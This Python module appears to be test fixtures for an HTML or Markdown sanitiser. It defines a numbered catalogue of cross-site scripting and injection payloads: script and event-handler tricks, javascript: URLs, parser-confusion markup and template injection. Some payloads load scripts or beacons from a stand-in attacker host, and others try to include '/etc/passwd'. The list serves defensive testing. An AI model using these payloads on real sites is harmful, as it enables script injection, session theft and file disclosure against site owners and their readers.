"""What an attacker writes: each payload calls ``pwn`` with its own number, or calls out.

``§`` stands for the number, ``EVIL`` for a host of the attacker's. ``fires`` says that the payload
does its work when it stands as it is in a page without any protection; the tests prove that of
each, so that silence elsewhere means something. The others are alive only in other contexts (an
attribute, a template, a script, another parser) or in other browsers.
"""

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

CALL = "pwn(§)"
ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:")
IMAGE = "<img src=x:x onerror=pwn(§)>"


@dataclass(frozen=True)
class Payload:
    """One text; ``number`` is its place in the list."""

    number: int
    pattern: str
    fires: bool

    def text(self, evil: str = "evil.example") -> str:
        """The payload for a host of the attacker's."""
        return self.pattern.replace("§", str(self.number)).replace("EVIL", evil)


_FIRE = (
    # Scripts and event handlers.
    "<script>pwn(§)</script>",
    "<ScRiPt >pwn(§)</sCrIpT >",
    "<script/x>pwn(§)</script>",
    "<script src=data:text/javascript,pwn(§)></script>",
    "<script type=module>pwn(§)</script>",
    "<script src=//EVIL/§></script>",
    IMAGE,
    "<img/src='x:x'/onerror=pwn(§)>",
    "<img src=x:x onerror\n=\npwn(§)>",
    "<img src=x:x onerror=&#112;wn(§)>",
    "<img src=x:x onerror=`${pwn(§)}`>",
    "<svg onload=pwn(§)>",
    "<svg/onload=pwn(§)//",
    "<body onload=pwn(§)>",
    "<details open ontoggle=pwn(§)><summary>x</summary></details>",
    "<b onclick=pwn(§)>按这里</b>",
    "<p onmouseover=pwn(§)>石桥</p>",
    "<input autofocus onfocus=pwn(§)>",
    "<a href=x:x onfocus=pwn(§) tabindex=1>x</a>",
    "<video><source onerror=pwn(§) src=x:x></video>",
    "<audio src=x:x onerror=pwn(§)>",
    "<style onload=pwn(§)>x{}</style>",
    "<b style=animation:x onanimationstart=pwn(§)>x</b><style>@keyframes x{}</style>",
    # Addresses that are scripts, in any spelling.
    "<a href=javascript:pwn(§)>x</a>",
    "<a href=JaVaScRiPt:pwn(§)>x</a>",
    '<a href=" &#1; javascript:pwn(§)">x</a>',
    '<a href="java\tscript:pwn(§)">x</a>',
    '<a href="java&#10;script&colon;pwn&lpar;§&rpar;">x</a>',
    f"<a href={ENTITIES}pwn(§)>x</a>",
    "<iframe src=javascript:parent.pwn(§)></iframe>",
    "<iframe srcdoc='<script>parent.pwn(§)</script>'></iframe>",
    "<iframe src='data:text/html,<script>pwn(§)</script>'></iframe>",
    "<object data='data:text/html,<script>pwn(§)</script>'></object>",
    "<embed src='data:text/html,<script>pwn(§)</script>'>",
    "<form action=javascript:pwn(§)><button>x</button></form>",
    "<form><button formaction=javascript:pwn(§)>x</button></form>",
    "<form id=f§></form><button form=f§ formaction=javascript:pwn(§)>x</button>",
    "<input type=image formaction=javascript:pwn(§) src=x:x form=g§><form id=g§></form>",
    # SVG, MathML, and what one parser reads as another does not.
    "<svg><script>pwn(§)</script></svg>",
    "<svg><a xlink:href=javascript:pwn(§)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=pwn(§) attributeName=x dur=1s></svg>",
    "<svg><set onbegin=pwn(§) attributeName=x></svg>",
    "<svg><foreignObject><img src=x:x onerror=pwn(§)></foreignObject></svg>",
    "<svg><use href='data:x'/></svg><image src=x:x onerror=pwn(§)>",
    '<svg></p><style><a id="</style><img src=x:x onerror=pwn(§)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x'
    ' onerror=1&gt;"><img src=x:x onerror=pwn(§)>',
    "<math><mi><table><mglyph><style><math href=javascript:1></style></table>"
    "<img src=x:x onerror=pwn(§)>",
    "<math><annotation-xml encoding=text/html><img src=x:x onerror=pwn(§)></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x:x onerror=pwn(§)>">',
    '<textarea><p title="</textarea><img src=x:x onerror=pwn(§)>">',
    "<title><a title='</title><img src=x:x onerror=pwn(§)>'>",
    '<xmp><p title="</xmp><img src=x:x onerror=pwn(§)>">',
    "<!--><img src=x:x onerror=pwn(§)>-->",
    "<!-- --!><img src=x:x onerror=pwn(§)> -->",
    "<![CDATA[><img src=x:x onerror=pwn(§)>]]>",
    "<?x ><img src=x:x onerror=pwn(§)>?>",
    "<table><img src=x:x onerror=pwn(§)></table>",
    "<select><option><img src=x:x onerror=pwn(§)></select><img src=x:x onerror=pwn(§)>",
    "<template><b></template><img src=x:x onerror=pwn(§)>",
    "<\x0cimg><img\x0csrc=x:x\x0conerror=pwn(§)>",
    # Out of whatever the text stands in.
    '"><img src=x:x onerror=pwn(§)>',
    "'><img src=x:x onerror=pwn(§)>",
    "`><img src=x:x onerror=pwn(§)>",
    "</script><script>pwn(§)</script>",
    "</title></style></textarea></template></noscript><script>pwn(§)</script>",
    "--></p></section></main></body><script>pwn(§)</script>",
    "<!--<script>--><script>pwn(§)</script>",
    "</p><div markdown=1><img src=x:x onerror=pwn(§)></div>",
    # Calling out: the attacker's server hears of the reader.
    "<img src=//EVIL/§>",
    "<img srcset='//EVIL/§ 1x'>",
    "<picture><source srcset=//EVIL/§><img src=x:x></picture>",
    "<svg><image href=//EVIL/§ /></svg>",
    "<video poster=//EVIL/§></video>",
    "<audio autoplay src=//EVIL/§></audio>",
    "<table background=//EVIL/§><td>x</table>",
    "<iframe src=//EVIL/§></iframe>",
    "<object data=//EVIL/§></object>",
    "<embed src=//EVIL/§>",
    "<link rel=stylesheet href=//EVIL/§>",
    "<link rel=preload as=image href=//EVIL/§>",
    "<link rel=icon href=//EVIL/§><link rel=prefetch href=//EVIL/§>",
    "<style>@import '//EVIL/§';</style>",
    "<style>*{background:url(//EVIL/§)}</style>",
    "<b style='background:url(//EVIL/§)'>x</b>",
    "<base href=//EVIL/§/><img src=a>",
    "<meta http-equiv=refresh content='0;url=//EVIL/§'>",
    "<form action=//EVIL/§><button>x</button></form>",
)
_SLEEP = (
    # Attributes, however they are quoted.
    '" onmouseover="pwn(§)',
    "' onfocus='pwn(§)' autofocus='",
    "x onclick=pwn(§) y",
    "` onerror=`pwn(§)`",
    '"onload=pwn(§)//',
    "&quot; onclick=&quot;pwn(§)",
    "javascript:pwn(§)",
    "vbscript:pwn(§)",
    "data:text/html,<script>pwn(§)</script>",
    'https://a.example/"onclick="pwn(§)',
    # Markdown that turns into something else.
    "[x](javascript:pwn(§))",
    "[x](JAVASCRIPT&colon;pwn(§))",
    "[x](java\u200bscript:pwn(§))",
    "[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
    "[x](vbscript:pwn(§))",
    '[x](https://a.example/ "\' onclick=pwn(§) x=")',
    "[x][§]",
    "[§]: javascript:pwn(§)",
    "<javascript:pwn(§)>",
    '<https://a.example/?"onclick=pwn(§)>',
    "![x](//EVIL/§.png)",
    '![x" onerror="pwn(§)](jungong.png)',
    "**x**{: onclick=pwn(§) }",
    '{: #main onclick="pwn(§)" }',
    "`</code><img src=x:x onerror=pwn(§)//`",
    '--8<-- "/etc/passwd"',
    ";--8<-- //EVIL/§",
    '!!! note "<img src=x:x onerror=pwn(§)//"',
    # Templates and scripts.
    "{{ 7*7 }}{{ pwn(§) }}",
    "{% include '/etc/passwd' %}{% raw %}",
    "{{ self.__init__.__globals__ }}",
    "${pwn(§)}`${pwn(§)}`",
    "#{pwn(§)}<%= pwn(§) %>",
    "';pwn(§);//",
    '\\";pwn(§);//',
    "\u2028pwn(§)\u2029",
    "]]>pwn(§)",
    '{"__proto__": {"onload": "pwn(§)"}}',
    # Styles, other encodings, directions.
    "x;background:url(//EVIL/§)",
    "}*{background:url(//EVIL/§)}",
    "expression(pwn(§))",
    "+ADw-script+AD4-pwn(§)+ADw-/script+AD4-",
    "%3Cscript%3Epwn(§)%3C/script%3E",
    "＜script＞pwn(§)＜/script＞",
    "<scr\x00ipt>pwn(§)</scr\x00ipt>",
    "\x00<img src=x:x onerror=pwn(§)//",
    "\u202e<img src=x:x onerror=pwn(§)//\u202c",
    "\ue000head\ue001\ue000main\ue001pwn(§)",
    "\x02wzxhzdk:0\x03pwn(§)",
    # Names that stand in the way of the page's own.
    "<a id=main name=main>pwn(§)</a>",
    "<form name=getElementById id=search><input name=q><input name=elements></form>",
    "<img name=currentScript><img id=trustedTypes name=location>",
    "main",
    "trustedTypes",
    "__proto__",
    "constructor",
    "\x01head\x02\x01main\x02pwn(§)",
)
PAYLOADS = tuple(
    Payload(number, pattern, number < len(_FIRE))
    for number, pattern in enumerate((*_FIRE, *_SLEEP))
)

_ABREAST = 4
_REFUSED = re.compile(r"[\x00-\x08\x0c\u2028-\u202e]")
_ALONE = (re.compile(r"[,，、]"), re.compile(r"[\t\n]"))
"""What some fields refuse; one such payload would have a whole text refused."""
_LONGEST = 4_500
"""Characters; no text of a head may have many more."""


def _packs() -> Iterator[tuple[Payload, ...]]:
    plain = [
        one for one in PAYLOADS if not any(each.search(one.pattern) for each in (*_ALONE, _REFUSED))
    ]
    yield from (tuple(plain[start::_ABREAST]) for start in range(_ABREAST))
    for each in _ALONE:
        yield tuple(one for one in PAYLOADS if each.search(one.pattern))


def _shortest(payloads: Iterable[Payload]) -> Iterator[Payload]:
    """As many as a text may hold."""
    room = _LONGEST
    for one in sorted(payloads, key=lambda one: len(one.text())):
        room -= len(one.text()) + 1
        if room > 0:
            yield one


REFUSED = tuple(one for one in PAYLOADS if _REFUSED.search(one.pattern))
"""Payloads with characters that no file may hold."""
PACKS = tuple(_packs())
"""All others in groups; each group is one text."""
SETTINGS = len(PACKS)
"""The number of the text for what a site has once: its settings."""
TEXTS = (*PACKS, tuple(_shortest(one for pack in PACKS[:_ABREAST] for one in pack)))
"""The groups, and most that is plain once more in one text for the settings."""
